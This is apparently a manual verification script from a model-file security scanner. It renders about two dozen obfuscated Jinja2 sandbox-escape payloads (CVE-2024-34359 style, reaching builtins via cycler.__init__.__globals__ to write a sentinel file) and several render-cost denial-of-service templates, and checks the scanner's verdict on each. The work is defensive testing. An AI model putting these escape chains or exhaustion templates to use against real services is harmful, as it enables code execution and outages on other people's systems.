"""Show that every access form the template analyser models reaches the same attribute in real Jinja2.

Run by hand, never in CI or the tests (the scanner parses templates and never renders them; this script
renders hostile ones on purpose), in a throwaway directory, with any environment that has jinja2:

    cd "$(mktemp -d)" && PYTHONPATH=/path/to/repo/src python /path/to/repo/scripts/prove_template_paths.py

For each form it renders the payload twice:

1. with `jinja2.Environment`, as llama-cpp-python rendered GGUF templates before 0.2.72 (CVE-2024-34359):
   the payload walks `cycler.__init__.__globals__` to the builtins and writes a sentinel file named after
   the form (harmless: a file in the current directory);
2. with `ImmutableSandboxedEnvironment` set up as transformers' `_compile_jinja_template` does
   (trim_blocks, lstrip_blocks, loopcontrols, `raise_exception`): the sandbox refuses the render with a
   SecurityError naming `__init__`, i.e. it saw the same attribute fetch the dotted form makes.

It prints modelshield's verdict for each template next to it. Then it renders the render-cost
payloads (TPL007) in the sandboxed environment, each in a child process limited to a few seconds and
512 MB, and prints whether the child ran out of time or memory.
"""

from __future__ import annotations

import multiprocessing
import os
import resource
import sys
import time
from pathlib import Path

import jinja2
from jinja2.ext import loopcontrols
from jinja2.sandbox import ImmutableSandboxedEnvironment, SecurityError

#: `{W}` becomes the write of the sentinel through the builtins reached from the fetched `__init__`.
WRITE = "['__globals__']['__builtins__']['open']('{sentinel}', 'w').write('fired')"

FORMS: dict[str, str] = {
    "dots": "{{ cycler.__init__.__globals__.__builtins__.open('{sentinel}', 'w').write('fired') }}",
    "subscript": "{{ cycler['__init__']" + WRITE + " }}",
    "concat": "{{ cycler['__in' ~ 'it__']" + WRITE + " }}",
    "plus": "{{ cycler['__in' + 'it__']" + WRITE + " }}",
    "multiply": "{{ cycler[('_' * 2) ~ 'init' ~ ('_' * 2)]" + WRITE + " }}",
    "slice": "{{ cycler['__tini__'[::-1]]" + WRITE + " }}",
    "attr-filter": "{{ (cycler|attr('__init__'))" + WRITE + " }}",
    "reverse-filter": "{{ (cycler|attr('__tini__'|reverse))" + WRITE + " }}",
    "join-filter": "{{ (cycler|attr(['__in', 'it__']|join))" + WRITE + " }}",
    "format-filter": "{{ (cycler|attr('%sinit%s'|format('__', '__')))" + WRITE + " }}",
    "replace-filter": "{{ (cycler|attr('XinitX'|replace('X', '__')))" + WRITE + " }}",
    "lower-filter": "{{ (cycler|attr('__INIT__'|lower))" + WRITE + " }}",
    "str-method": "{{ cycler['{}init{}'.format('__', '__')]" + WRITE + " }}",
    "map-attribute": "{{ ([cycler]|map(attribute='__init__')|first)" + WRITE + " }}",
    "set": "{% set k = '__in' %}{% set k = k ~ 'it__' %}{{ cycler[k]" + WRITE + " }}",
    "for-loop": "{% set ns = namespace(k='') %}{% for p in ['__in', 'it__'] %}{% set ns.k = ns.k ~ p %}"
    "{% endfor %}{{ cycler[ns.k]" + WRITE + " }}",
    "for-dict": "{% for key, value in {'a': '__init__'}|dictsort %}{{ cycler[value]" + WRITE + " }}{% endfor %}",
    "loop-cycle": "{% for m in [1] %}{{ cycler[loop.cycle('__init__')]" + WRITE + " }}{% endfor %}",
    "macro-argument": "{% macro fire(n) %}{{ cycler[n]" + WRITE + " }}{% endmacro %}{{ fire('__in' ~ 'it__') }}",
    "macro-default": "{% macro fire(n='__init__') %}{{ (cycler|attr(n))" + WRITE + " }}{% endmacro %}{{ fire() }}",
    "set-block": "{% set k %}__init__{% endset %}{{ cycler[k]" + WRITE + " }}",
    "caller": "{% macro fire() %}{{ cycler[caller()]" + WRITE + " }}{% endmacro %}{% call fire() %}__init__"
    "{% endcall %}",
    "dict-literal": "{% set d = {'k': '__init__'} %}{{ cycler[d.k]" + WRITE + " }}",
    "dict-call": "{% set d = dict(k='__init__') %}{{ cycler[d['k']]" + WRITE + " }}",
    "random-filter": "{{ cycler[['__init__']|random]" + WRITE + " }}",
    "request-key": "{{ cycler[messages[0].content]" + WRITE + " }}",
}

#: Render-cost payloads (TPL007), rendered in the sandbox.
COSTLY: dict[str, str] = {
    "nested-ranges": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    "string-repeat": "{{ 'a' * 10 ** 10 }}",
    "center": "{{ ''|center(2000000000) }}",
    "macro-countdown": "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(40) }}",
    # Identical arguments: Jinja2 hits Python's recursion limit on the first branch and the render fails.
    "macro-fanout": "{% macro f(n) %}{{ f(n) }}{{ f(n) }}{% endmacro %}{{ f(1) }}",
    "recursive-loop": "{% for x in [1] recursive %}{{ loop([1, 1]) }}{% endfor %}",
}


def raise_exception(message: str) -> None:
    raise jinja2.TemplateError(message)


def transformers_environment() -> ImmutableSandboxedEnvironment:
    """As transformers' `_compile_jinja_template` builds it (its generation tag is not needed here)."""
    env = ImmutableSandboxedEnvironment(trim_blocks=True, lstrip_blocks=True, extensions=[loopcontrols])
    env.globals["raise_exception"] = raise_exception
    return env


def verdict(template: str) -> str:
    try:
        from modelshield.formats.llm.templates import analyse
    except ImportError:
        return "(modelshield not importable)"
    problems = analyse(template).problems
    return ", ".join(sorted({f"{p.rule.id}/{(p.severity or p.rule.severity).name.lower()}" for p in problems}))


def prove_forms() -> bool:
    messages = [{"role": "user", "content": "__init__"}]
    every = True
    for name, form in FORMS.items():
        sentinel = Path(f"sentinel-{name}").resolve()
        template = form.replace("{sentinel}", str(sentinel))
        try:
            jinja2.Environment().from_string(template).render(messages=messages)
        except Exception as exc:
            print(f"  render error {type(exc).__name__}: {exc}")
        fired = sentinel.exists()
        try:
            transformers_environment().from_string(template).render(messages=messages)
            sandbox = "rendered (no escape needed?)"
        except SecurityError as exc:
            sandbox = f"SecurityError: {exc}"
        every = every and fired and "__init__" in sandbox
        print(f"{name:16} unsandboxed: {'SENTINEL WRITTEN' if fired else 'no sentinel'}; sandbox: {sandbox}")
        print(f"{'':16} modelshield: {verdict(template)}")
    return every


def _render_limited(template: str) -> None:  # pragma: no cover - runs in the child
    resource.setrlimit(resource.RLIMIT_AS, (512 * 1024 * 1024, 512 * 1024 * 1024))
    sys.setrecursionlimit(10_000)
    transformers_environment().from_string(template).render(messages=[])


def prove_costs(seconds: float = 5.0) -> None:
    context = multiprocessing.get_context("fork")
    for name, template in COSTLY.items():
        started = time.monotonic()
        child = context.Process(target=_render_limited, args=(template,))
        child.start()
        child.join(seconds)
        elapsed = time.monotonic() - started
        if child.is_alive():
            child.kill()
            child.join()
            outcome = f"still rendering after {seconds:g} s (killed)"
        else:
            outcome = f"exit code {child.exitcode} after {elapsed:.1f} s (non-zero: MemoryError or RecursionError)"
        print(f"{name:16} {outcome}; modelshield: {verdict(template)}")


def main() -> int:
    if any(Path().iterdir()):
        print("run this in an empty throwaway directory (it writes sentinel files)", file=sys.stderr)
        return 2
    print(f"jinja2 {jinja2.__version__}, cwd {os.getcwd()}")
    every = prove_forms()
    prove_costs()
    print("every form escaped unsandboxed and was refused on __init__ by the sandbox" if every else "SOME FORM DID NOT")
    return 0 if every else 1


if __name__ == "__main__":
    raise SystemExit(main())
